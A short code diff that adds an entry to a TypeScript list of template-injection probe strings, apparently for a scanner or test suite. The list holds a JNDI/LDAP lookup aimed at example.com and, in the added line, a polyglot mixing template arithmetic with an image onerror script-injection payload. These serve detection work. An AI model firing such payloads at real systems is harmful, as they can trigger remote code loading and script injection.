@@ -16,4 +16,5 @@ export const templateProbes: readonly string[] = [
   '${jndi:ldap://example.com/probe}',
   'e3s3Kjd9fSAke3s3Kjd9fQ==',
   '&#123;&#123;7*7&#125;&#125;',
+  '{{7*7}}${7*7}"><img src=http://example.com/probe onerror=probed=1>',
 ]
